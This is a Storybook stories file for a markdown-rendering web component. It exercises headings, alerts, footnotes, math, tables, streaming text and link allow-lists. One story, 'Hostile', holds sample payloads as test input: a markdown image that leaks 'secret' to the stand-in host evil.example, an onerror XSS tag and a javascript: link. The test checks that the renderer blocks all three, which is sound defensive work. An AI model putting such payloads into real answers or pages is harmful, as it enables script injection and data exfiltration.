/** Markdown of an answer as well-set text. */
import type { Meta, StoryObj } from '@storybook/web-components-vite';
import { html } from 'lit';
import { expect, waitFor } from 'storybook/test';
import { textHtml, type MarkdownRenderers, type TableNode } from '@loqui/elements';
import '@loqui/elements/loqui-markdown.js';
import { all, find, says, textOf } from '../play/shadow.js';
import { longAnswer } from '../scripts/long-answer.js';
import { richAnswer } from '../scripts/rich-answer.js';

interface Args {
  text: string;
  streaming: boolean;
}

const [long] = longAnswer.steps.flatMap((step) => ('event' in step && step.event.type === 'message.completed' ? step.event.parts : []));
const longText = long?.type === 'text' ? long.text : '';

const meta = {
  title: 'Views/loqui-markdown',
  component: 'loqui-markdown',
  args: { text: 'A paragraph with *emphasis*, **weight**, `code` and [a link](https://example.com).', streaming: false },
  argTypes: { text: { control: 'text' } },
  decorators: [(story) => html`<div style="max-inline-size: 640px">${story()}</div>`],
  render: ({ text, streaming }) => html`<loqui-markdown math allowed-link-origins="*" .text=${text} .streaming=${streaming}></loqui-markdown>`,
} satisfies Meta<Args>;

export default meta;
type Story = StoryObj<Args>;

export const Inline: Story = {};
export const Everything: Story = { args: { text: longText } };
/** A long answer with all there is: headings, lists in lists, tasks, a table, code, alerts, formulas, footnotes, allowed HTML. */
export const Rich: Story = {
  args: { text: richAnswer },
  render: ({ text }) => html`<loqui-markdown math allowed-link-origins="*" .allowedHtml=${textHtml} .text=${text}></loqui-markdown>`,
  play: async ({ canvasElement }) => {
    const markdown = await find<HTMLElementTagNameMap['loqui-markdown']>(canvasElement, 'loqui-markdown');
    await waitFor(() => expect(all(markdown.shadowRoot!, 'math').length).toBeGreaterThan(2));
    await expect(all(markdown.shadowRoot!, '.footnotes li')).toHaveLength(2);
    await expect(all(markdown.shadowRoot!, '.alert')).toHaveLength(5);
  },
};
export const Alerts: Story = {
  args: {
    text: ['NOTE', 'TIP', 'IMPORTANT', 'WARNING', 'CAUTION']
      .map((kind) => `> [!${kind}]\n> What a reader should know of a *${kind.toLowerCase()}*.`)
      .join('\n\n'),
  },
};
export const Footnotes: Story = {
  args: { text: 'A claim[^1] and another[^src].\n\n[^1]: Where it comes from.\n[^src]: And this, from [a page](https://example.com).' },
};
export const Formulas: Story = { args: { text: 'Inline $a^2 + b^2 = c^2$, and on its own:\n\n$$\n\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}\n$$' } };
/** The page draws tables itself. What throws is replaced by the built-in drawing. */
export const OwnTables: Story = {
  render: () =>
    html`<loqui-markdown
      .renderers=${
        {
          table: ({ rows }: TableNode) => {
            const node = document.createElement('output');
            node.textContent = `A table of ${String(rows.length)} rows`;
            return { node };
          },
        } satisfies MarkdownRenderers
      }
      .text=${'| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |'}
    ></loqui-markdown>`,
  play: async ({ canvasElement }) => {
    await says(canvasElement, 'loqui-markdown', 'A table of 2 rows');
  },
};
export const Lists: Story = { args: { text: '1. First\n2. Second\n   - inside\n     - deeper\n3. Third\n\n- [x] done\n- [ ] open' } };
export const Table: Story = { args: { text: '| Version | Repeats |\n| --- | --: |\n| 1 | 1 per page |\n| 2 | 0 |' } };
/** Wider than the column: it scrolls in itself, never the page. */
export const WideTable: Story = {
  args: {
    text: `| ${Array.from({ length: 12 }, (_, index) => `Column ${String(index)}`).join(' | ')} |\n|${' --- |'.repeat(12)}\n| ${Array.from({ length: 12 }, (_, index) => `a value ${String(index)}`).join(' | ')} |`,
  },
};
export const Quote: Story = { args: { text: '> A cursor is a promise about the next row,\n> not a memory of the last one.' } };
/** Unfinished marks are shown completed; the caret stands behind the last word. */
export const Streaming: Story = { args: { text: 'Two commits touch it. **4f1c made the cur', streaming: true } };
export const OpenFence: Story = { args: { text: 'The change:\n\n```ts\nexport async function page(after: Cursor', streaming: true } };
/** Images of other origins are not loaded, and scripts are text: an answer cannot carry out what was said. */
export const Hostile: Story = {
  args: { text: '![secret](https://evil.example/?q=secret)\n\n<img src=x onerror=alert(1)>\n\n[click](javascript:alert(1))' },
  play: async ({ canvasElement }) => {
    await find(canvasElement, 'loqui-markdown');
    await expect(all<HTMLImageElement>(canvasElement, 'img[src*="evil.example"], img[onerror]')).toHaveLength(0);
    await expect(all<HTMLAnchorElement>(canvasElement, 'a[href^="javascript:"]')).toHaveLength(0);
  },
};

/** A page names the addresses that can be linked; other links are text. Images of other origins are named likewise, by `allowed-image-origins`. */
export const AllowedLinks: Story = {
  render: () =>
    html`<loqui-markdown
      allowed-link-origins="https://docs.example.com"
      .text=${'Read [the guide](https://docs.example.com/guide) or [this](https://other.example/).'}
    ></loqui-markdown>`,
  play: async ({ canvasElement }) => {
    await says(canvasElement, 'loqui-markdown', 'Read the guide or this');
    await expect(all<HTMLAnchorElement>(canvasElement, 'a[href]').map((link) => link.href)).toEqual(['https://docs.example.com/guide']);
  },
};

/** What comes piece by piece stands in the end as if it had come at once. */
export const PieceByPiece: Story = {
  args: { text: longText },
  render: () => html`<loqui-markdown math allowed-link-origins="*"></loqui-markdown>`,
  play: async ({ canvasElement, args }) => {
    const markdown = await find<HTMLElementTagNameMap['loqui-markdown']>(canvasElement, 'loqui-markdown');
    markdown.streaming = true;
    for (let end = 0; end < args.text.length; end += 90) {
      markdown.text = args.text.slice(0, end);
      await new Promise(requestAnimationFrame);
    }
    markdown.text = args.text;
    markdown.streaming = false;
    const whole = document.createElement('loqui-markdown');
    whole.text = args.text;
    whole.math = true;
    whole.allowedLinkOrigins = ['*'];
    canvasElement.append(whole);
    await waitFor(() => expect(textOf(markdown)).toBe(textOf(whole)));
    await waitFor(() => expect(all(markdown.shadowRoot!, 'loqui-code-block')).toHaveLength(2));
    whole.remove();
  },
};
